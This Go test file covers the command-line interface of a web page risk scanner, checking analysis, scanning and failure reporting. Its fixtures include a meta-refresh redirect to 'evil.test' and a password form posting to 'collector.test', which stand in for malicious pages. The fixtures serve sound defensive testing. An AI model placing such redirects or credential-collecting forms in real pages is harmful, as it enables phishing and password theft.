package cmd

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/JakeFAU/pagerisk/internal/scan"
)

func runRoot(t *testing.T, stdin string, args ...string) (string, string, error) {
	t.Helper()
	root := newRootCmd()
	var stdout, stderr bytes.Buffer
	root.SetOut(&stdout)
	root.SetErr(&stderr)
	root.SetIn(strings.NewReader(stdin))
	root.SetArgs(append([]string{"--env-file", filepath.Join(t.TempDir(), "missing.env"), "--log-level", "error"}, args...))
	err := root.Execute()
	return stdout.String(), stderr.String(), err
}

func TestAnalyzeFromStdin(t *testing.T) {
	html := `<html><head><meta http-equiv="refresh" content="0;url=https://evil.test"></head></html>`
	stdout, stderr, err := runRoot(t, html, "analyze", "--url", "http://example.com")
	require.NoError(t, err)

	var result scan.AnalysisResult
	require.NoError(t, json.Unmarshal([]byte(stdout), &result))
	require.NotEmpty(t, result.Findings)
	require.Contains(t, stderr, "http://example.com")
}

func TestAnalyzeFromFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "page.html")
	require.NoError(t, os.WriteFile(path, []byte("<html><body>hello</body></html>"), 0o600))

	stdout, _, err := runRoot(t, "", "analyze", path, "--url", "https://example.com")
	require.NoError(t, err)
	require.Contains(t, stdout, `"verdict": "Safe"`)
}

func TestAnalyzeRequiresURL(t *testing.T) {
	_, _, err := runRoot(t, "<html></html>", "analyze")
	require.ErrorContains(t, err, "--url is required")
}

func TestScanAgainstLocalServer(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(`<html><body><form action="https://collector.test/p"><input type="password"></form></body></html>`))
	}))
	defer srv.Close()

	stdout, stderr, err := runRoot(t, "", "scan", "--no-render", srv.URL)
	require.NoError(t, err)

	var out scanOutput
	require.NoError(t, json.Unmarshal([]byte(stdout), &out))
	require.NotNil(t, out.Report)
	require.Equal(t, scan.MethodSimple, out.Report.FetchedBy)
	require.Equal(t, srv.URL, out.Report.URLSubmitted)
	require.Contains(t, stderr, string(out.Report.Analysis.Verdict))
}

func TestScanReportsFailures(t *testing.T) {
	_, stderr, err := runRoot(t, "", "scan", "--no-render", "--block-private", "http://127.0.0.1:1/")
	require.ErrorContains(t, err, "1 of 1 scans failed")
	require.Contains(t, stderr, "FAILED")
}

func TestWriteScanResults(t *testing.T) {
	t.Parallel()

	var stdout, stderr bytes.Buffer
	results := []scanOutput{
		{URL: "a", Report: &scan.Report{FinalURL: "https://a", Analysis: scan.AnalysisResult{Verdict: scan.VerdictMalicious, Score: 90}}},
		{URL: "b", Error: "boom"},
	}
	err := writeScanResults(&stdout, &stderr, results)
	require.ErrorContains(t, err, "1 of 2 scans failed")
	require.Contains(t, stderr.String(), "Malicious")
	require.Contains(t, stderr.String(), "b: boom")
	require.Equal(t, 2, strings.Count(stdout.String(), `"url"`))
}

func TestRuntimeFromMissing(t *testing.T) {
	t.Parallel()

	_, err := runtimeFrom(t.Context())
	require.Error(t, err)
}
